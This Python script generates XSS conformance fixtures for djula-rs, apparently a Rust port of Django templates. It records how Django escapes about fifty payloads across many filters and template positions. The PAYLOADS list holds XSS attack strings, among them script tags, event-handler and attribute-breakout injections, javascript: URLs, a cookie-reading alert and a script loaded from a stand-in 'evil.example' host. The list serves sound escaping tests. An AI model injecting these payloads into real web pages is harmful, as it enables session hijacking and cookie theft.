#!/usr/bin/env python3
"""Writes template-fixtures/xss/expected.json: what real Django renders for
every XSS payload through every filter that returns safe output, in text,
double-quoted attribute and single-quoted attribute positions.

    /work/.venv-django/bin/python djula-rs/tests/xss/generate.py

Run once after changing the corpus; djula-rs/tests/xss.rs compares djula's
output with the recorded one. Renders in-process through
../shared/conformance/django_cli.py (the same settings as the conformance
cases).
"""

import json
import os
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
sys.path.insert(0, os.path.join(os.path.dirname(ROOT), "shared", "conformance"))
import django_cli  # noqa: E402

OUT = os.path.join(ROOT, "template-fixtures", "xss", "expected.json")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x\" /><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(document.cookie)",
    "jav&#x61;script:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "&quot; onclick=&quot;alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<script<script>>alert(1)</script>",
    "<b><i>unclosed <script>alert(1)",
    "<p>para</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "\u0131mg src=x",
    "\u02bconmouseover=\u02bcalert(1)",
    "\u201d onmouseover=\u201dalert(1)",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "http://example.com/\"><script>alert(1)</script>",
    "http://example.com/?q=<script>alert(1)</script>",
    "http://example.com/'onmouseover='alert(1)'",
    "www.example.com/\" onclick=\"alert(1)",
    "javascript:alert(1)//http://example.com",
    "evil@example.com\"><script>alert(1)</script>",
    "mailto:x@example.com?subject=<script>",
    "line1\n<script>alert(1)</script>\n\nline3 \"q\" 'a'",
    "a & b < c > d \" e ' f",
    "\\u003cscript\\u003ealert(1)",
    "${alert(1)}{{ 7*7 }}{% debug %}",
    "\u2028\u2029<script>",
    "one two three <a href='javascript:alert(1)' onclick=\"x\">four five six</a> seven",
]

# Filters whose output Django marks safe (or that decide by their input):
# (label, expression using `p` or `lst`). Expressions use only literals.
FILTERS = [
    ("plain", "p"),
    ("escape", "p|escape"),
    ("force_escape", "p|force_escape"),
    ("urlize", "p|urlize"),
    ("urlizetrunc", "p|urlizetrunc:15"),
    ("linebreaks", "p|linebreaks"),
    ("linebreaksbr", "p|linebreaksbr"),
    ("linenumbers", "p|linenumbers"),
    ("unordered_list", "lst|unordered_list"),
    ("join", "lst|join:p"),
    ("join_literal", "lst|join:\", \""),
    ("truncatewords_html", "p|truncatewords_html:3"),
    ("truncatechars_html", "p|truncatechars_html:12"),
    ("json_script", "p|json_script:\"data\""),
    ("json_script_noid", "p|json_script"),
    ("escapejs", "p|escapejs"),
    ("escapeseq_join", "lst|escapeseq|join:\",\""),
    ("safeseq_escape", "p|escape|linebreaksbr"),
    ("striptags", "p|striptags"),
    ("addslashes", "p|addslashes"),
    ("capfirst", "p|capfirst"),
    ("center", "p|center:60"),
    ("ljust", "p|ljust:60"),
    ("rjust", "p|rjust:60"),
    ("cut", "p|cut:\"a\""),
    ("lower", "p|lower"),
    ("upper", "p|upper"),
    ("title", "p|title"),
    ("slice", "p|slice:\":20\""),
    ("first", "lst|first"),
    ("last", "lst|last"),
    ("random", "lst|slice:\":1\"|random"),
    ("wordwrap", "p|wordwrap:10"),
    ("truncatechars", "p|truncatechars:15"),
    ("truncatewords", "p|truncatewords:2"),
    ("iriencode", "p|iriencode"),
    ("urlencode", "p|urlencode"),
    ("default", "missing|default:p"),
    ("stringformat", "p|stringformat:\"s\""),
    ("make_list_join", "p|make_list|join:\"\""),
    ("dictsort_join", "lst|join:\"<br>\""),
]

POSITIONS = {
    "text": "<div>{{ %s }}</div>",
    "dq_attr": "<a title=\"{{ %s }}\">x</a>",
    "sq_attr": "<a title='{{ %s }}'>x</a>",
    "href": "<a href=\"{{ %s }}\">x</a>",
    "textarea": "<textarea>{{ %s }}</textarea>",
}


def main():
    django_cli.setup_django()
    cases = []
    templates = {}
    with tempfile.TemporaryDirectory() as directory:
        for label, expr in FILTERS:
            for position, shape in POSITIONS.items():
                source = shape % expr
                templates["%s/%s" % (label, position)] = source
                with open(os.path.join(directory, "t.html"), "w", encoding="utf-8") as f:
                    f.write(source)
                for index, payload in enumerate(PAYLOADS):
                    context = {"p": payload, "lst": [payload, [payload, "<b>x</b>"], "plain"]}
                    result = django_cli.render(directory, "t.html", django_cli.decode(context))
                    case = {"template": "%s/%s" % (label, position), "payload": index}
                    if result[0] == "output":
                        case["output"] = result[1]
                    else:
                        case["error"] = "%s: %s" % (result[1], result[3])
                    cases.append(case)
    # One case per line, so a changed expectation is a one-line diff.
    with open(OUT, "w", encoding="utf-8") as f:
        f.write('{"context": "p is the payload, lst is [p, [p, \\"<b>x</b>\\"], \\"plain\\"]",\n')
        f.write('"payloads": %s,\n' % json.dumps(PAYLOADS, ensure_ascii=False))
        f.write('"templates": %s,\n' % json.dumps(templates, ensure_ascii=False, indent=0))
        f.write('"cases": [\n')
        f.write(",\n".join(json.dumps(c, ensure_ascii=False) for c in cases))
        f.write("\n]}\n")
    print("wrote %d cases to %s" % (len(cases), os.path.relpath(OUT, ROOT)), file=sys.stderr)


if __name__ == "__main__":
    main()
